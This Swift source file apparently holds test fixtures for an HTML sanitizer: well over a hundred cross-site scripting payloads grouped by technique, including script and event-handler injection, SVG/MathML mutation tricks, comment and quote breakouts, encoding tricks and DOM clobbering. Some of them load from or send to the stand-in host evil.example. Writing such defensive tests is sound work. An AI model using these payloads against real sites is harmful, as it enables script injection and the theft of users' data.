/// Attacks on those who show other people's HTML, by class. Written anew for this test, after the classes that the
/// lists of OWASP and of cure53 and the reports on sanitizers name.
enum HTMLAttacks {
    static let all =
        scripts + events + frames + styles + namespaces + rawText + comments + quoting + tables + forms + characters
        + clobbering + loads

    /// Elements that run what is in them, however they are spelled and broken.
    static let scripts = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x src=//evil.example>",
        "<script\u{C}>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<script>alert(1)//", "<script a='>' src=x></script>", "<script a=\">\" SRC=x></script>",
        "<script =\">\" src=x>",
        "<script `>` src=x></script>", "</script><script>alert(1)</script>", "<script\u{0}>alert(1)</script>",
        "<scri\u{0}pt>alert(1)</scri\u{0}pt>", "<%00script>alert(1)</script>",
        "<script charset=utf-7>+ADw-x+AD4-</script>",
        "<script type=text/vbscript>MsgBox</script>", "<script>/*<!--*/alert(1)//--></script>",
        "<script xmlns=x:y>a</script>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<ſcript>alert(1)</ſcript>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    ]

    /// Attributes that run what is in them.
    static let events = [
        "<img src=x onerror=alert(1)>", "<img src=x onerror =alert(1)>", "<img/src=x/onerror=alert(1)>",
        "<img src=x\u{C}onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x oNeRrOr=alert(1)>",
        "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<b onmouseover=alert(1)>x</b>",
        "<b/onclick=alert(1)>x",
        "<b on\u{0}click=alert(1)>x</b>", "<b \u{0}onclick=alert(1)>x</b>", "<b x onclick=alert(1)>",
        "<b onclick>x</b>",
        "<b x='' onclick='alert(1)'>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x",
        "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio onloadstart=alert(1) src=x>",
        "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>",
        "<keygen autofocus onfocus=alert(1)>",
        "<textarea onfocus=alert(1) autofocus>", "<x onbeforeinput=alert(1) contenteditable>x", "<xss oncut=alert(1)>x",
        "<a style=\"animation-name:x\" onanimationend=alert(1)>x</a>", "<p onwheel=alert(1) tabindex=1>x",
        "<isindex type=image src=1 onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<object onerror=alert(1)>",
        "<button popovertarget=x>a</button><p popover id=x onbeforetoggle=alert(1)>x",
        "<b oncontentvisibilityautostatechange=x>",
    ]

    /// Elements that bring in another page.
    static let frames = [
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>", "<iframe><script>alert(1)</script></iframe>",
        "<iframe src=data:text/html,x></iframe>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>", "<object data='data:text/html;base64,PHN2Zz4='></object>",
        "<embed src=javascript:alert(1)>", "<embed code=//evil.example/x.swf allowscriptaccess=always>",
        "<applet code=x>",
        "<portal src=javascript:alert(1)>", "<fencedframe src=x>",
        "<object><param name=url value=javascript:x></object>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=Set-Cookie content=x>",
        "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=javascript:x>", "<link rel=import href=x>",
        "<link rel=preload href=//evil.example/x as=script>", "<?xml-stylesheet href='javascript:alert(1)'?><x/>",
    ]

    /// What styles did and do.
    static let styles = [
        "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>",
        "<p style='background:url(javascript:alert(1))'>x", "<p style='behavior:url(x.htc)'>x",
        "<p style='-moz-binding:url(x)'>",
        "<p style=\"width:expression(alert(1))\">x", "<p style='width:exp/**/ression(alert(1))'>",
        "<p style='\\65xpression(1)'>",
        "<p style='position:fixed;inset:0;z-index:9999'>x", "<p style=\"x:'</style><img src=x onerror=alert(1)>'\">",
        "<style></style ><img src=x onerror=alert(1)>", "<style><img src=x onerror=alert(1)></style>",
        "<style>a{}</style\u{C}><img src=x onerror=alert(1)>", "<p style='a:b;c:\\\"onclick=alert(1)'>",
        "<p style='background:&#117;rl(//evil.example)'>", "<p style='color:red;}</style><script>x</script>'>",
        "<p style='--x:url(//evil.example);background:var(--x)'>", "<p style='list-style-image:url(//evil.example)'>",
    ]

    /// Foreign content, in which a browser reads by other rules: where sanitized HTML has mutated.
    static let namespaces = [
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><script xlink:href=data:,alert(1)></script>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>", "<svg><use href=data:image/svg+xml,x#x>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>",
        "<svg><title><img src=x onerror=alert(1)></title>",
        "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math href=javascript:alert(1)>x</math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<math><mi//xlink:href='data:x,<script>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<svg><font color><p>x<img src=x onerror=alert(1)></svg>", "<svg><br><script>alert(1)</script>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<html xmlns:o='urn:x'><o:p onclick=alert(1)>x</o:p>", "<x xmlns='http://www.w3.org/2000/svg' onload=alert(1)>",
    ]

    /// Elements whose content is text to one reader and markup to another.
    static let rawText = [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noscript><!--</noscript><img src=x onerror=alert(1)>-->",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title></title><img src=x onerror=alert(1)></title>",
        "<title><b title='</title><img src=x onerror=alert(1)>'>",
        "<xmp></xmp><img src=x onerror=alert(1)></xmp>", "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
        "<noembed><img src='</noembed><img src=x onerror=alert(1)>'>",
        "<noframes><p x='</noframes><script>alert(1)</script>'>",
        "<plaintext></plaintext><script>alert(1)</script>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
        "<select><template><script>x</script></template></select>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<option><style></option></select><b><img src=x onerror=alert(1)></style>",
        "<style><noscript></style><img src=x onerror=alert(1)></noscript>",
        "<script><!--<script></script>--><img src=x onerror=alert(1)>",
    ]

    /// Comments, declarations and instructions that end in other places than they seem to.
    static let comments = [
        "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![if IE]><script>alert(1)</script><![endif]>",
        "<! foo=\"><script>alert(1)</script>\">", "<? foo=\"><script>alert(1)</script>\">",
        "</ foo=\"><script>alert(1)</script>\">",
        "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "<![CDATA[<script>alert(1)</script>]]>",
        "<!-- `> <script>x</script> -->",
        "<%<!--'%><script>alert(1)</script -->", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!ELEMENT x><script>x</script>",
        "<![<!--]]<script>alert(1)//-->", "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">", "<!-", "<!",
        "</", "<?",
    ]

    /// Quotes and tags that end in other places than they seem to.
    static let quoting = [
        "<img \"\"\"><script>alert(1)</script>\"\\>", "<a href=\"x\"\"onclick=alert(1)\">x</a>",
        "<a title='<script>alert(1)</script>'>x",
        "<img alt=`x`` onerror=alert(1)`>", "<img alt=\"`` onerror=alert(1)\" src=x>",
        "<a title=\"&quot;onclick=alert(1)&quot;\">x",
        "<a href=https://a.example/\"onclick=alert(1)>x</a>", "<a href='https://a.example/\" onclick=\"alert(1)'>x</a>",
        "<a href=\"https://a.example/' onclick='alert(1)\">x</a>", "<b title=\"x>y<script>alert(1)</script>\">",
        "<b title='\\'' onclick=alert(1)>",
        "<b title=&#34;&#32;onclick=alert(1)>", "<b =\"\"onclick=alert(1)>", "<b \"onclick=alert(1)\">",
        "<b/=/onclick=alert(1)>", "<b <script>alert(1)</script>",
        "<a href=x<script>alert(1)</script>", "<a\u{B}href=javascript:alert(1)>x", "<a\u{A0}href=javascript:alert(1)>x",
        "<b title=\"</b><script>alert(1)",
        "<a href=\"https://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
        "<img src='https://a.example/?<script>alert(1)</script>'>",
    ]

    /// Tables move what is out of place in front of them.
    static let tables = [
        "<table><script>alert(1)</script></table>",
        "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x",
        "<table><td><svg><style></td></table><img src=x onerror=alert(1)></style>",
        "<table><caption><svg><title><table><img src=x onerror=alert(1)>",
        "<table><colgroup><script>alert(1)</script>", "<table><tr><a href=javascript:alert(1)>x</tr></table>",
        "<a><table><a href=javascript:alert(1)>x",
        "<table><math><mi><table><mglyph><style><img src=x onerror=alert(1)>", "<td><script>alert(1)</script>",
        "</table></td><script>alert(1)</script>",
    ]

    /// Forms send what a person enters elsewhere.
    static let forms = [
        "<form action=javascript:alert(1)><input type=submit>", "<form><button formaction=javascript:alert(1)>x",
        "<input type=image src=x onerror=alert(1)>",
        "<form id=x></form><button form=x formaction=javascript:alert(1)>x", "<input type=password name=password>",
        "<isindex action=javascript:x type=submit>",
        "<form action=//evil.example><textarea name=x>", "<label onclick=alert(1)>x</label>",
        "<form><input name=innerHTML><input name=attributes>",
    ]

    /// Characters that vanish, change or are read in other charsets.
    static let characters = [
        "<img src=x onerror\u{0}=alert(1)>", "\u{FEFF}<script>alert(1)</script>", "<script\u{2028}>alert(1)</script>",
        "<b \u{2028}onclick=alert(1)>x",
        "\u{202E}<script>alert(1)</script>", "<b>\u{338}<script>alert(1)</script>", "<scrip\u{131}>alert(1)",
        "＜script＞alert(1)＜/script＞",
        "\u{FFFD}<script>alert(1)</script>", "<a href='\u{FF4A}avascript:alert(1)'>x", "<\u{E2}script>alert(1)",
        "\u{1F}<img src=x onerror=alert(1)>",
        "<img src=x o\u{AD}nerror=alert(1)>", "<s\u{200B}cript>alert(1)</s\u{200B}cript>",
        "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\\u003cscript\\u003ealert(1)", "&#60;script&#62;alert(1)", "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "&lt&#115cript&gt", "\u{1B}$B<script>alert(1)</script>",
    ]

    /// Names that take the place of a page's own.
    static let clobbering = [
        "<img name=cookie>", "<a id=config href=https://evil.example>x</a>", "<form name=body><input id=x>",
        "<b class='admin-only modal'>x</b>",
        "<a id=x><a id=x name=y href=https://evil.example>z</a>", "<b data-controller=x data-action='click->x#y'>x</b>",
        "<b v-on:click=alert(1) @click=x :x=y>x</b>",
        "<b ng-click=alert(1) x-data=\"alert(1)\" hx-get=//evil.example>{{constructor.constructor('alert(1)')()}}</b>",
        "<slot name=x></slot><b slot=x is=x-y part=z>x",
    ]

    /// What is loaded without being asked for.
    static let loads = [
        "<img src=x srcset='javascript:alert(1) 1x, //evil.example/y 2x'>",
        "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>",
        "<video poster=javascript:alert(1)>", "<picture><source srcset=javascript:alert(1)><img src=x></picture>",
        "<a ping=//evil.example href=https://a.example>x</a>",
        "<track src=javascript:alert(1)>", "<img usemap=#x><map name=x><area href=javascript:alert(1)></map>",
        "<q cite=javascript:alert(1)>x</q>", "<layer src=javascript:x>",
        "<xml id=x><i><![CDATA[<img src=javascript:alert(1)>]]></i></xml><span datasrc=#x dataformatas=html>",
        "<a href=https://a.example attributionsrc=//evil.example>x</a>",
    ]
}
